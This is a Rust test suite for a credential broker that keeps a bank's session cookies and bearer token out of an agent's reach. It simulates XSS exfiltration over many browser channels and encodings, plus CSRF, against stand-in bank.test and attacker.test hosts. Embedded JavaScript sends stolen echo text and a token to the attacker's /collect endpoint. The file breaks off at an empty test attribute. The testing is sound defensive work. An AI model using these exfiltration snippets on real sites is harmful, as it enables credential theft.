//! Credentials the agent can use but never hold (issue 3; AG-120 4.2, 4.4, 4.5, 4.6, 4.8),
//! attacked from inside real pages, from the agent's own CDP connection and through Playwright
//! and Puppeteer.
//!
//! The fixtures (`common/bank.rs`): a "bank" on `bank.test` whose pages need its session,
//! whose login sets an HttpOnly session cookie and a script-readable CSRF cookie, and whose
//! `/echo` reflects the request headers into the page; an "attacker" on `attacker.test` (and
//! its subdomains) that records every byte it receives. The mandate holds the bank's `sid`
//! cookie and bearer token; chaperone adds them to the bank's first-party requests.
//!
//! How a page gets a secret to steal: a script running in the bank's own origin (the worst
//! case, an XSS) fetches `/echo` and reads back what chaperone injected. Each exfiltration test
//! then sends it over one channel, followed by a clean canary over the same channel; it asserts
//! that the canary arrived (the channel works and the page ran), that the attacker holds no
//! secret in any form (raw, percent-encoded, hex, base64 and base64url at every alignment, also
//! after percent-decoding), that the audit log recorded the block, that the bank still lets the
//! same session in, and that neither the supervisor's stderr, nor the audit log, nor any CDP
//! frame sent to the agent holds a secret.
//!
//! Every test can fail: `CHAPERONE_CRED_BARE=1 cargo test --test credentials` runs the same
//! tests against bare Chromium (as `nobody`, names mapped by `--host-resolver-rules`), with
//! `Storage.setCookies` and `Network.setExtraHTTPHeaders` standing in for a naive injector, and
//! inverts the verdict: each test then passes only if its attack worked. Checked that way on
//! Chromium 156 (all 42 tests passed in bare mode):
//! - every exfiltration channel delivered the looted values to the attacker: fetch, XHR body,
//!   image and script URLs, form POST, sendBeacon, WebSocket URL *and* frame (each on its own),
//!   wss host name (SNI of the ClientHello), EventSource, dedicated worker, service worker (its
//!   own fetch), iframe, window.open, the redirect chain (as navigation and as fetch, each on its
//!   own), DNS labels (raw and hex), the echo page's own script, the agent's pushes;
//! - each encoding arrived in each place on its own (URL, `X-Data` header, body), at all three
//!   base64/base64url alignments, percent-encoded in both cases, hex in both cases;
//! - every forged transfer (form POST, image, fetch, iframe, 307 through the attacker) arrived
//!   authenticated; the attacker's own cookie and `Authorization` reached it;
//! - `Network.getCookies`, `Network.getAllCookies`, `Storage.getCookies`, `document.cookie`, the
//!   ExtraInfo events, the response body / DOM / text of `/echo`, Playwright's `cookies()` and
//!   `storageState()`, Puppeteer's `page.cookies()` all showed held cookies or values; the
//!   polling watchers saw `bank_csrf`; the agent's `Network.setCookie` replaced `sid`.
//!
//! Not testable here: `cookieStore` change events (secure contexts only, and the bank is plain
//! http, so the watchers poll `document.cookie` only); the path and frames of a wss:// URL (no
//! certificate the browser trusts, so only the host name can leak). CSRF tests check the bank's
//! record, not an audit event: a credential simply not added has no refusal to record.

mod common;

use common::bank::*;
use common::*;
use serde_json::{json, Value};

fn rt() -> tokio::runtime::Runtime {
    tokio::runtime::Runtime::new().unwrap()
}

/// A bank page steals the injected credentials and sends them over the channel `attack`.
fn exfiltration(attack: &str) -> World {
    exfiltration_with(attack, false)
}

/// [`exfiltration`]; `revokes`: chaperone ends the session for this channel even though the
/// mandate says `on_leak = "block"` (a `wss://` URL path or frame, which nobody can hold back:
/// the broker sees it only as the socket opens; see `src/broker/session.rs`). Then the bank cannot be checked in the same session, and
/// the end must be an audited anomaly. The page sends its canary first for these channels.
fn exfiltration_with(attack: &str, revokes: bool) -> World {
    let w = World::start(|_| {});
    rt().block_on(async {
        let mut c = w.connect().await;
        let p = w.open(&mut c, &w.bank(&format!("/xss/{attack}"))).await;
        let answer = w.try_attack(&mut c, &p).await;
        w.wait_canary(attack).await;
        w.judge_exfiltration(attack).await;
        match w.sup() {
            Some(sup) if revokes => {
                let r = sup.wait_audit("session.anomaly", |r| r["event"] == "session.anomaly");
                eprintln!("[revoked] {r}");
            }
            _ => {
                assert!(answer.is_some(), "the agent's connection ended");
                w.assert_bank_works(&mut c, &p).await;
                if let Some(sup) = w.sup() {
                    assert_eq!(sup.events("session.anomaly"), Vec::<Value>::new());
                }
            }
        }
        w.assert_nothing_leaked(&c.seen);
    });
    w
}

#[test]
fn ag120_4_4_exfiltration_by_fetch_is_blocked() {
    exfiltration("fetch");
}

#[test]
fn ag120_4_4_exfiltration_by_xhr_body_is_blocked() {
    exfiltration("xhr");
}

#[test]
fn ag120_4_4_exfiltration_by_image_url_is_blocked() {
    exfiltration("image");
}

#[test]
fn ag120_4_4_exfiltration_by_script_url_is_blocked() {
    exfiltration("script");
}

#[test]
fn ag120_4_4_exfiltration_by_form_post_is_blocked() {
    exfiltration("form");
}

#[test]
fn ag120_4_4_exfiltration_by_send_beacon_is_blocked() {
    exfiltration("beacon");
}

/// Browser-level Fetch never sees a WebSocket handshake: the egress proxy reads the plaintext
/// handshake inside the tunnel and stops it (the URL carries the secret), as `on_leak` says.
#[test]
fn ag120_4_4_exfiltration_by_websocket_url_is_blocked() {
    let w = exfiltration("websocket");
    if w.is_bare() {
        let frames = w.sites.attacker.frames.lock().unwrap().concat();
        assert!(
            !secrets_in(&frames).is_empty(),
            "the WebSocket frame delivered no secret through bare Chromium"
        );
    }
}

/// A clean handshake, then the secret in a frame: frames are masked, not encrypted, and the
/// proxy unmasks them (and keeps permessage-deflate from being negotiated).
#[test]
fn ag120_4_4_exfiltration_by_websocket_frame_is_blocked() {
    let w = exfiltration("websocket-frame");
    if w.is_bare() {
        let frames = w.sites.attacker.frames.lock().unwrap().concat();
        assert!(
            !secrets_in(&frames).is_empty(),
            "the WebSocket frame delivered no secret through bare Chromium"
        );
    }
}

/// wss:// to a server the browser cannot trust: only the host name (CONNECT, SNI) leaves in
/// clear, so the secret rides as a host label; the proxy refuses the CONNECT before any DNS
/// lookup.
#[test]
fn ag120_4_4_exfiltration_by_secure_websocket_host_name_is_blocked() {
    exfiltration("wss");
}

#[test]
fn ag120_4_4_exfiltration_by_event_source_is_blocked() {
    exfiltration("eventsource");
}

#[test]
fn ag120_4_4_exfiltration_from_a_dedicated_worker_is_blocked() {
    exfiltration("worker");
}

#[test]
fn ag120_4_4_exfiltration_from_a_service_worker_is_blocked() {
    exfiltration("serviceworker");
}

#[test]
fn ag120_4_4_exfiltration_by_iframe_navigation_is_blocked() {
    exfiltration("iframe");
}

#[test]
fn ag120_4_4_exfiltration_by_window_open_is_blocked() {
    exfiltration("window_open");
}

/// bank `/go?to=` (an open redirect on the credential's own site) → attacker: the first hop may
/// carry the secret, the second may not; and the bank's injected credentials never follow a
/// redirect to the attacker.
#[test]
fn ag120_4_4_exfiltration_through_a_redirect_chain_is_blocked() {
    let w = exfiltration("redirect");
    let landed = w
        .sites
        .attacker
        .requests_to("/landing")
        .into_iter()
        .filter(|r| r.query("via").as_deref() == Some("redirect-clean"))
        .count();
    assert!(landed > 0, "the clean redirect never reached the attacker");
    if w.is_bare() {
        w.assert_each_delivered(&["redirect", "redirect-fetch"]);
    }
}

/// Names the supervisor cannot resolve (only `canary.attacker.test` is in `hosts`) must still be
/// judged before resolution, and the refused name must not reach the audit log in clear.
#[test]
fn ag120_4_4_exfiltration_in_a_dns_label_is_blocked() {
    exfiltration("dns");
}

/// One request per encoding variant and per place (URL, `X-Data` header, body).
fn encoded(name: &str, encoding: &str) {
    let w = exfiltration(name);
    let Some(sup) = w.sup() else {
        w.assert_each_delivered(&["enc", "enc-header", "enc-body"]);
        return;
    };
    let blocked = sup.events("credential.exfiltration_blocked");
    let norm = |v: &Value| {
        v.as_str()
            .unwrap_or("")
            .to_ascii_lowercase()
            .replace(['-', '_', ' '], "")
    };
    // None of the test secrets has a `+` or `/` in its base64 at any alignment, so their
    // base64url forms are their base64 forms and a detector may name either.
    let accepted: &[&str] = if encoding == "base64url" {
        &["base64url", "base64"]
    } else {
        &[encoding]
    };
    assert!(
        blocked
            .iter()
            .any(|r| accepted.contains(&norm(&r["encoding"]).as_str())),
        "no exfiltration_blocked record names the encoding {encoding}: {blocked:?}"
    );
    for r in &blocked {
        assert!(
            r["host"].as_str().unwrap_or("").contains("attacker.test"),
            "{r}"
        );
    }
}

#[test]
fn ag120_4_4_exfiltration_raw_in_url_header_and_body_is_blocked() {
    encoded("enc-raw", "raw");
}

#[test]
fn ag120_4_4_exfiltration_percent_encoded_in_url_header_and_body_is_blocked() {
    encoded("enc-percent", "percent");
}

#[test]
fn ag120_4_4_exfiltration_hex_in_url_header_and_body_is_blocked() {
    encoded("enc-hex", "hex");
}

#[test]
fn ag120_4_4_exfiltration_base64_in_url_header_and_body_is_blocked() {
    encoded("enc-base64", "base64");
}

#[test]
fn ag120_4_4_exfiltration_base64url_in_url_header_and_body_is_blocked() {
    encoded("enc-base64url", "base64url");
}

/// The agent opens the bank's `/echo`, whose own inline script posts what it shows to the
/// attacker.
#[test]
fn ag120_4_4_echo_reflection_then_exfiltration_is_blocked() {
    let w = World::start(|_| {});
    rt().block_on(async {
        let mut c = w.connect().await;
        let p = w.open(&mut c, &w.bank("/echo?then=exfil")).await;
        wait_eval(
            &mut c,
            &p,
            "(window.__done || []).length",
            "the echo page's script to finish",
            |v| v == 2,
        )
        .await;
        let echoed = w.sites.bank.requests_to("/echo");
        assert!(
            echoed.iter().any(|r| r.authenticated()),
            "the bank's /echo never got the credentials, so the page had nothing to steal"
        );
        w.wait_canary("echo").await;
        w.judge_exfiltration("the /echo page").await;
        w.assert_bank_works(&mut c, &p).await;
        w.assert_nothing_leaked(&c.seen);
    });
}

/// The agent reads the reflection with `Runtime.evaluate` (it must come back scrubbed), has the
/// page push it to the attacker without ever seeing it, and pushes a value it knows itself.
#[test]
fn ag120_4_2_agent_cannot_read_or_push_a_reflected_secret_with_runtime_evaluate() {
    let w = World::start(|_| {});
    rt().block_on(async {
        let mut c = w.connect().await;
        let p = w.open(&mut c, &w.bank("/account")).await;
        let text = c
            .eval(&p, "fetch('/echo').then(r => r.text())")
            .await
            .as_str()
            .unwrap_or("")
            .to_string();
        assert!(!text.is_empty(), "the agent's read of /echo returned nothing");
        let read = secrets_in(text.as_bytes());
        let a = w.attacker("");
        let pushed = c
            .eval(
                &p,
                &format!(
                    "fetch('/echo').then(r => r.text()).then(t => fetch('{a}/collect?via=agent-push', \
                     {{method: 'POST', mode: 'no-cors', body: t}})).then(() => 'sent', e => '' + e)"
                ),
            )
            .await;
        let literal = c
            .eval(
                &p,
                &format!(
                    "fetch('{a}/collect?via=agent-literal&d={TOKEN}', {{mode: 'no-cors'}})\
                     .then(() => 'sent', e => '' + e)"
                ),
            )
            .await;
        eprintln!("[agent] push: {pushed}, literal: {literal}");
        c.eval(
            &p,
            &format!("fetch('{a}/collect?canary=agent', {{mode: 'no-cors'}}).then(() => 'sent')"),
        )
        .await;
        w.wait_canary("agent").await;
        w.judge(
            "Runtime.evaluate returned the reflected credentials",
            !read.is_empty(),
            &format!("{read:?}"),
        );
        w.judge_exfiltration("the agent's pushes").await;
        w.assert_bank_works(&mut c, &p).await;
        w.assert_nothing_leaked(&c.seen);
    });
}

/// With the default `on_leak`, a leak attempt ends the session as an anomaly (AG-120 4.5).
#[test]
fn ag120_4_5_a_leak_revokes_the_session_by_default() {
    let w = World::start(|m| {
        m.as_object_mut().unwrap().remove("on_leak");
    });
    rt().block_on(async {
        let mut c = w.connect().await;
        let p = w.open(&mut c, &w.bank("/xss/fetch")).await;
        if w.is_bare() {
            w.run_attack(&mut c, &p).await;
            w.judge_exfiltration("fetch").await;
            return;
        }
        // The answer may never come: the session is meant to end under this call.
        c.send_raw(
            json!({"id": 90_001, "method": "Runtime.evaluate", "sessionId": p,
                "params": {"expression": "attack()", "awaitPromise": true, "userGesture": true}})
            .to_string(),
        )
        .await;
        let ended = c.wait_end().await;
        eprintln!("[revoke] agent connection ended: {ended:?}");
        w.assert_nothing_leaked(&c.seen);
    });
    let Some(sup) = w.sup() else { return };
    let id = w.session_id().unwrap();
    sup.wait_audit("credential.exfiltration_blocked", |r| {
        r["event"] == "credential.exfiltration_blocked" && r["session"] == id
    });
    sup.wait_audit("session.anomaly", |r| {
        r["event"] == "session.anomaly" && r["session"] == id
    });
    sup.wait_audit("session.purged", |r| {
        r["event"] == "session.purged" && r["session"] == id
    });
    let (_, body) = sup.api("GET", &format!("/v1/sessions/{id}"), None);
    assert_eq!(body["state"], "purged", "{body}");
    assert_eq!(body["end_reason"], "anomaly", "{body}");
    let loot = w.attacker_loot();
    assert!(loot.is_empty(), "the attacker received {loot:?}");
    assert_clean("the audit log", &std::fs::read(&sup.audit).unwrap());
    assert_clean("the supervisor's stderr", sup.stderr_text().as_bytes());
}

/// Cross-site request forgery from the attacker's page to the bank's `/transfer` must arrive
/// without credentials: chaperone must never become a CSRF amplifier. The same session's own
/// transfer, from the bank's page, is authenticated, so the bank can tell the two apart.
fn csrf(kind: &str) {
    let w = World::start(|_| {});
    rt().block_on(async {
        let mut c = w.connect().await;
        let _attacker = w.open(&mut c, &w.attacker(&format!("/csrf/{kind}"))).await;
        let forged = || -> Vec<Request> {
            w.sites
                .bank
                .requests_to("/transfer")
                .into_iter()
                .filter(|r| r.query("via").as_deref() == Some(kind))
                .collect()
        };
        wait_for(&format!("the forged {kind} to reach the bank"), || {
            !forged().is_empty()
        })
        .await
        .unwrap();
        let forged = forged();
        let authenticated: Vec<&Request> = forged.iter().filter(|r| r.authenticated()).collect();
        w.judge(
            &format!("a forged transfer by {kind} arrived authenticated"),
            !authenticated.is_empty(),
            &format!("{authenticated:?}"),
        );
        let b = w.open(&mut c, &w.bank("/account")).await;
        let status = c
            .eval(
                &b,
                "fetch('/transfer?via=legit', {method: 'POST', body: 'amount=1'}).then(r => r.status)",
            )
            .await;
        assert_eq!(status, 200, "the customer's own transfer was refused");
        w.assert_bank_works(&mut c, &b).await;
        w.assert_nothing_leaked(&c.seen);
    });
}

#[test]
fn ag120_4_4_csrf_by_form_post_reaches_the_bank_unauthenticated() {
    csrf("form");
}

#[test]
fn ag120_4_4_csrf_by_image_reaches_the_bank_unauthenticated() {
    csrf("img");
}

#[test]
fn ag120_4_4_csrf_by_fetch_reaches_the_bank_unauthenticated() {
    csrf("fetch");
}

#[test]
fn ag120_4_4_csrf_by_iframe_reaches_the_bank_unauthenticated() {
    csrf("iframe");
}

#[test]
fn ag120_4_4_csrf_through_an_attacker_redirect_reaches_the_bank_unauthenticated() {
    csrf("redirect");
}

/// A site without a credential, whose page sends its own cookie and an `Authorization` header
/// to itself: the headers are stripped (default) or the requests blocked.
fn unlisted(block: bool) {
    let w = World::start(|m| {
        if block {
            m["unlisted_credentials"] = json!("block");
        }
    });
    rt().block_on(async {
        let mut c = w.connect().await;
        let p = w.open_with(&mut c, &w.attacker("/unlisted"), false).await;
        // The agent plants a Cookie header of its own on every request of the page; the
        // attacker site's own cookie (set by itself, in this browser) is its own state and
        // may go back to it, the planted one is authentication material it must not get.
        // (Only when stripping: blocking would fail every request of the page, canary too.)
        if !block {
            c.call(
                "Network.setExtraHTTPHeaders",
                json!({"headers": {"Cookie": "planted=agent-set-cookie"}}),
                Some(&p),
            )
            .await;
        }
        let r = c
            .call(
                "Runtime.evaluate",
                json!({"expression": "attack()", "awaitPromise": true, "returnByValue": true}),
                Some(&p),
            )
            .await;
        eprintln!("[unlisted] {r}");
        w.wait_canary("unlisted").await;
        let carried: Vec<Request> = w
            .sites
            .attacker
            .requests_to("/collect")
            .into_iter()
            .filter(|r| r.query("via").is_some_and(|v| v.starts_with("unlisted-")))
            .collect();
        let with_auth: Vec<&Request> = carried
            .iter()
            .filter(|r| {
                r.header("cookie").is_some_and(|c| !c.trim().is_empty())
                    || r.header("authorization").is_some()
            })
            .collect();
        w.judge(
            "authentication headers reached a site without a credential",
            !with_auth.is_empty(),
            &format!("{with_auth:?}"),
        );
        if let Some(sup) = w.sup() {
            let event = if block {
                "credential.blocked"
            } else {
                "credential.stripped"
            };
            let r = sup.wait_audit(event, |r| {
                r["event"] == event && r["host"].as_str().unwrap_or("").contains("attacker.test")
            });
            eprintln!("[unlisted] audit: {r}");
            if block {
                assert!(carried.is_empty(), "blocked requests arrived: {carried:?}");
            } else {
                assert_eq!(carried.len(), 2, "stripped requests must still arrive");
            }
        }
        w.assert_bank_works(&mut c, &p).await;
        w.assert_nothing_leaked(&c.seen);
    });
}

#[test]
fn ag120_4_4_unlisted_site_gets_cookie_and_authorization_stripped() {
    unlisted(false);
}

#[test]
fn ag120_4_4_unlisted_credentials_block_fails_the_request() {
    unlisted(true);
}

/// Cookies in a CDP answer: held ones by name on the bank, or any secret anywhere in it.
fn held_cookies_in(answer: &Value) -> Vec<String> {
    let mut found: Vec<String> = answer["result"]["cookies"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|c| {
            c["domain"].as_str().unwrap_or("").contains("bank.test")
                && HELD_COOKIES.contains(&c["name"].as_str().unwrap_or(""))
        })
        .map(|c| c["name"].as_str().unwrap_or("").to_string())
        .collect();
    found.extend(secrets_in(answer.to_string().as_bytes()));
    found
}

/// Logs in (the vault captures the bank's cookies), gives the attacker a cookie of its own (so
/// that a cookie read has something it must still return), and returns the bank tab.
async fn logged_in(w: &World, c: &mut Cdp) -> String {
    let p = w.open(c, &w.bank("/account")).await;
    navigate(c, &p, &w.attacker("/setcookie")).await;
    login(w, c, &p).await;
    p
}

#[test]
fn ag120_4_2_login_cookie_is_captured_and_used_but_never_stored_in_the_browser() {
    let w = World::start(|_| {});
    rt().block_on(async {
        let mut c = w.connect().await;
        let p = logged_in(&w, &mut c).await;
        // /account/session takes nothing but the cookie the login set: the vault has it and
        // puts it on the bank's requests.
        navigate(&mut c, &p, &w.bank("/account/session")).await;
        let msg = c
            .eval(&p, "document.getElementById('msg').textContent")
            .await;
        assert_eq!(msg, "welcome", "the captured session cookie was not used");
        let all = c.call("Storage.getCookies", json!({}), None).await;
        let held = held_cookies_in(&all);
        w.judge(
            "the browser's own cookie store holds the bank's cookies",
            !held.is_empty(),
            &format!("{held:?}"),
        );
        if let Some(sup) = w.sup() {
            for cookie in ["bank_session", "bank_csrf"] {
                let r = sup.wait_audit("credential.captured", |r| {
                    r["event"] == "credential.captured" && r["cookie"] == cookie
                });
                assert_eq!(r["credential"], "bank", "{r}");
                assert!(r["host"].as_str().unwrap().contains("bank.test"), "{r}");
            }
            let r = sup.wait_audit("credential.injected", |r| {
                r["event"] == "credential.injected"
            });
            assert_eq!(r["credential"], "bank", "{r}");
            assert!(r["host"].as_str().unwrap().contains("bank.test"), "{r}");
        }
        w.assert_nothing_leaked(&c.seen);
    });
}

/// A CDP cookie read after the bank's login: the held cookies are missing from the answer,
/// the attacker site's own cookie is not. `on_page` sends it on the page's session.
fn cookie_read_omits_held_cookies(method: &str, params: impl Fn(&World) -> Value, on_page: bool) {
    let w = World::start(|_| {});
    rt().block_on(async {
        let mut c = w.connect().await;
        let p = logged_in(&w, &mut c).await;
        let r = c
            .call(method, params(&w), on_page.then_some(p.as_str()))
            .await;
        let held = held_cookies_in(&r);
        w.judge(
            &format!("{method} returned held cookies"),
            !held.is_empty(),
            &r.to_string(),
        );
        if !w.is_bare() {
            assert!(
                r.to_string().contains("attacker-own-cookie"),
                "the attacker's own cookie must still be readable: {r}"
            );
        }
        w.assert_nothing_leaked(&c.seen);
    });
}

#[test]
fn ag120_4_2_network_get_cookies_omits_held_cookies() {
    cookie_read_omits_held_cookies(
        "Network.getCookies",
        |w| json!({"urls": [w.bank("/"), w.attacker("/")]}),
        true,
    );
}

#[test]
fn ag120_4_2_network_get_all_cookies_is_refused() {
    let w = World::start(|_| {});
    rt().block_on(async {
        let mut c = w.connect().await;
        let p = logged_in(&w, &mut c).await;
        let r = c.call("Network.getAllCookies", json!({}), Some(&p)).await;
        let held = held_cookies_in(&r);
        w.judge(
            "Network.getAllCookies returned held cookies",
            !held.is_empty(),
            &r.to_string(),
        );
        if let Some(sup) = w.sup() {
            assert_eq!(r["error"]["code"], -32000, "{r}");
            let msg = r["error"]["message"].as_str().unwrap_or("");
            assert!(
                msg.contains("refused")
                    && !msg.contains("wasn't found")
                    && !msg.contains("Not supported"),
                "{msg}"
            );
            sup.wait_audit("cdp.denied", |r| {
                r["event"] == "cdp.denied" && r["method"] == "Network.getAllCookies"
            });
        }
        w.assert_nothing_leaked(&c.seen);
    });
}

#[test]
fn ag120_4_2_storage_get_cookies_omits_held_cookies() {
    cookie_read_omits_held_cookies("Storage.getCookies", |_| json!({}), false);
}

#[test]
fn ag120_4_2_document_cookie_shows_no_held_cookie() {
    let w = World::start(|_| {});
    rt().block_on(async {
        let mut c = w.connect().await;
        let p = logged_in(&w, &mut c).await;
        let v = c.eval(&p, "document.cookie").await;
        let s = v.as_str().unwrap_or("").to_string();
        let leaked = HELD_COOKIES
            .iter()
            .any(|n| s.split("; ").any(|kv| kv.starts_with(&format!("{n}="))))
            || !secrets_in(s.as_bytes()).is_empty();
        w.judge("document.cookie showed a held cookie", leaked, &s);
        w.assert_nothing_leaked(&c.seen);
    });
}

/// The agent writes a cookie over the held `sid`; the bank must keep getting the held value.
#[test]
fn ag120_4_2_agent_cannot_overwrite_a_held_cookie() {
    let w = World::start(|_| {});
    rt().block_on(async {
        let mut c = w.connect().await;
        let p = w.open(&mut c, &w.bank("/account")).await;
        let r = c
            .call(
                "Network.setCookie",
                json!({"name": "sid", "value": "agent-chosen-value", "domain": "bank.test", "path": "/"}),
                Some(&p),
            )
            .await;
        eprintln!("[overwrite] {r}");
        let before = w.sites.bank.requests_to("/account").len();
        w.assert_bank_works(&mut c, &p).await;
        let after = w.sites.bank.requests_to("/account");
        let overwritten = after[before..]
            .iter()
            .any(|r| r.has_cookie("sid", "agent-chosen-value") || !r.has_cookie("sid", SID));
        w.judge("the agent's cookie replaced the held one", overwritten, &format!("{:?}", &after[before..]));
        w.assert_nothing_leaked(&c.seen);
    });
}

/// Frames the agent received, parsed.
fn frames(seen: &[String]) -> Vec<Value> {
    seen.iter()
        .filter_map(|f| serde_json::from_str(f).ok())
        .collect()
}

/// `Network.requestWillBeSentExtraInfo` shows injected headers and
/// `Network.responseReceivedExtraInfo` the raw `Set-Cookie`: both must reach the agent (clients
/// pair them with other events) with the values scrubbed.
#[test]
fn ag120_4_2_extra_info_events_are_scrubbed_not_dropped() {
    let w = World::start(|_| {});
    rt().block_on(async {
        let mut c = w.connect().await;
        let p = w.open(&mut c, &w.bank("/account")).await;
        login(&w, &mut c, &p).await;
        // Every bank document request of this tab gets both ExtraInfo events (they may trail the
        // load event a little: pump the connection until they are in, bounded).
        let complete = |seen: &[String]| {
            let f = frames(seen);
            let ids: Vec<String> = f
                .iter()
                .filter(|v| {
                    v["method"] == "Network.requestWillBeSent"
                        && v["params"]["type"] == "Document"
                        && v["params"]["request"]["url"]
                            .as_str()
                            .unwrap_or("")
                            .contains("bank.test")
                })
                .filter_map(|v| v["params"]["requestId"].as_str().map(str::to_string))
                .collect();
            let has = |method: &str, id: &str| {
                f.iter()
                    .any(|v| v["method"] == method && v["params"]["requestId"] == id)
            };
            ids.len() >= 2
                && ids.iter().all(|id| {
                    has("Network.requestWillBeSentExtraInfo", id)
                        && has("Network.responseReceivedExtraInfo", id)
                })
        };
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
        while !complete(&c.seen) {
            assert!(
                std::time::Instant::now() < deadline,
                "ExtraInfo events for the bank's documents never all arrived"
            );
            c.eval(&p, "1").await;
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        }
        let extra: Vec<String> = frames(&c.seen)
            .into_iter()
            .filter(|v| {
                v["method"]
                    .as_str()
                    .is_some_and(|m| m.ends_with("ExtraInfo"))
            })
            .map(|v| v.to_string())
            .collect();
        let found = secrets_in(extra.join("\n").as_bytes());
        w.judge(
            "ExtraInfo events carried credentials",
            !found.is_empty(),
            &format!("{found:?}"),
        );
        w.assert_nothing_leaked(&c.seen);
    });
}

/// What the agent can read of a page that shows the credentials: the response body, the DOM,
/// the page's text, the response headers and their raw text.
#[test]
fn ag120_4_2_response_bodies_and_header_texts_are_scrubbed() {
    let w = World::start(|_| {});
    rt().block_on(async {
        let mut c = w.connect().await;
        let p = w.open(&mut c, &w.bank("/echo")).await;
        assert!(
            w.sites
                .bank
                .requests_to("/echo")
                .iter()
                .any(|r| r.authenticated()),
            "the bank's /echo never got the credentials"
        );
        let id = frames(&c.seen)
            .into_iter()
            .find(|v| {
                v["method"] == "Network.requestWillBeSent"
                    && v["params"]["request"]["url"]
                        .as_str()
                        .unwrap_or("")
                        .ends_with("/echo")
            })
            .and_then(|v| v["params"]["requestId"].as_str().map(str::to_string))
            .expect("no requestWillBeSent for /echo");
        let body = c
            .call(
                "Network.getResponseBody",
                json!({"requestId": id}),
                Some(&p),
            )
            .await;
        let doc = c.call("DOM.getDocument", json!({}), Some(&p)).await;
        let html = c
            .call(
                "DOM.getOuterHTML",
                json!({"nodeId": doc["result"]["root"]["nodeId"]}),
                Some(&p),
            )
            .await;
        let text = c.eval(&p, "document.body.innerText").await;
        // Scrubbed or whole, but answered: a refusal here would be a different product.
        assert!(body["result"]["body"].is_string(), "{body}");
        assert!(html["result"]["outerHTML"].is_string(), "{html}");
        assert!(text.is_string(), "{text}");
        let all = format!("{body}\n{html}\n{text}");
        let found = secrets_in(all.as_bytes());
        w.judge(
            "the page's copies carried credentials",
            !found.is_empty(),
            &format!("{found:?}"),
        );
        w.assert_nothing_leaked(&c.seen);
    });
}

/// A second bank tab and a same-site iframe poll `document.cookie` (and listen to `cookieStore`
/// where the browser offers it) while another tab logs in.
#[test]
fn ag120_4_2_bank_script_polling_document_cookie_during_login_sees_nothing() {
    let w = World::start(|_| {});
    rt().block_on(async {
        let mut c = w.connect().await;
        let watch = w.open(&mut c, &w.bank("/watch")).await;
        wait_eval(
            &mut c,
            &watch,
            "typeof (frames[0] && frames[0].report)",
            "the watching iframe to load",
            |v| v == "function",
        )
        .await;
        let tab = w.open(&mut c, &w.bank("/account")).await;
        // A hidden tab's timers are throttled to about one a second; keep the watcher in front.
        c.call("Page.bringToFront", json!({}), Some(&watch)).await;
        login(&w, &mut c, &tab).await;
        let polls = c.eval(&watch, "reportAll()").await;
        eprintln!("[watch] polls {polls}");
        wait_for("both watchers to report", || {
            w.sites.bank.requests_to("/report").len() >= 2
        })
        .await
        .unwrap();
        let reports: Vec<Value> = w
            .sites
            .bank
            .requests_to("/report")
            .iter()
            .map(|r| serde_json::from_slice(&r.body).unwrap())
            .collect();
        for r in &reports {
            assert!(
                r["polls"].as_u64().unwrap() > 0,
                "a watcher never polled: {r}"
            );
        }
        let seen = json!(reports.iter().map(|r| &r["seen"]).collect::<Vec<_>>()).to_string();
        let leaked = HELD_COOKIES.iter().any(|n| seen.contains(&format!("{n}=")))
            || !secrets_in(seen.as_bytes()).is_empty();
        w.judge("a bank script saw a held cookie", leaked, &seen);
        w.assert_nothing_leaked(&c.seen);
    });
}

/// Runs a Node driver that logs in and reports what its client's cookie APIs show.
fn node_cookies(script: &str) {
    let w = World::start(|_| {});
    let (v, protocol) = node_client_logged(
        script,
        &[("CDP_URL", w.cdp_url()), ("BANK_URL", w.bank(""))],
    );
    assert_eq!(v["ok"], true, "{script}: {v}");
    let runs: Vec<&Value> = match v["results"].as_object() {
        Some(r) => r.values().collect(),
        None => vec![&v],
    };
    for r in &runs {
        assert_eq!(r["welcome"], "welcome", "the login did not work: {r}");
        assert_eq!(
            r["sessionWelcome"], "welcome",
            "the session cookie was not used: {r}"
        );
    }
    let text = v.to_string();
    let names_leaked = runs.iter().any(|r| {
        ["cookies", "bankCookies", "browserCookies"]
            .iter()
            .any(|k| {
                r[*k].as_array().into_iter().flatten().any(|c| {
                    c["domain"].as_str().unwrap_or("").contains("bank.test")
                        && HELD_COOKIES.contains(&c["name"].as_str().unwrap_or(""))
                })
            })
    });
    let found = secrets_in(text.as_bytes());
    w.judge(
        &format!("{script} showed the bank's cookies"),
        names_leaked || !found.is_empty(),
        &text,
    );
    w.assert_nothing_leaked(&[protocol]);
    for r in &runs {
        // Known cost of keeping cookies out (README, "Credentials"): the browser stores nothing
        // for a credential site, so its localStorage throws while one of its pages is open, and
        // Playwright's storageState() with it. Any other failure is a bug.
        if let Some(e) = r["state"].get("error") {
            assert!(
                e.as_str().unwrap_or("").contains("localStorage")
                    && e.as_str().unwrap_or("").contains("SecurityError"),
                "{script}: storageState() failed: {e}"
            );
        }
    }
}

#[test]
fn ag120_4_2_playwright_context_cookies_and_storage_state_hold_no_secret() {
    node_cookies("cred-playwright.mjs");
}

#[test]
fn ag120_4_2_puppeteer_page_cookies_hold_no_secret() {
    node_cookies("cred-puppeteer.mjs");
}

/// With no credentials in the mandate, what an agent does with its own cookies and headers
/// through Playwright looks exactly as it does on bare Chromium.
#[test]
fn transparency_playwright_route_headers_cookies_and_storage_state_match_bare_chromium() {
    let sites = Sites::start();
    let site = format!("http://plain.test:{}", sites.bank.port());
    let bare = {
        let chromium = BareChromium::launch();
        node_client(
            "cred-transparency.mjs",
            &[
                ("CDP_URL", chromium.ws_url.clone()),
                ("SITE_URL", site.clone()),
            ],
        )
    };
    assert_eq!(bare["ok"], true, "bare Chromium: {bare}");
    let sup = Supervisor::start();
    let s = sup.session(&mandate(300, &["plain.test"]));
    let through = node_client(
        "cred-transparency.mjs",
        &[
            ("CDP_URL", s["cdp_url"].as_str().unwrap().to_string()),
            ("SITE_URL", site),
        ],
    );
    assert_eq!(through["ok"], true, "through chaperone: {through}");
    // The bare run itself proves each feature did something.
    let o = &bare["observed"];
    assert_eq!(o["routed"], "from route", "{o}");
    let sent = o["sent"].to_string();
    for h in [
        "x-agent: agent-1",
        "authorization: Bearer agent-own-token",
        "x-routed: yes",
        "agent_session=agent-own-session",
    ] {
        assert!(sent.contains(h), "bare Chromium did not send {h}: {sent}");
    }
    assert_eq!(
        bare["observed"], through["observed"],
        "chaperone without credentials differs from bare Chromium"
    );
}

/// AG-120 4.8 and test 8.7: two sites, each with its own credential. Neither credential goes to
/// the other site, whichever page asks; each goes to its own site from a first-party context.
#[test]
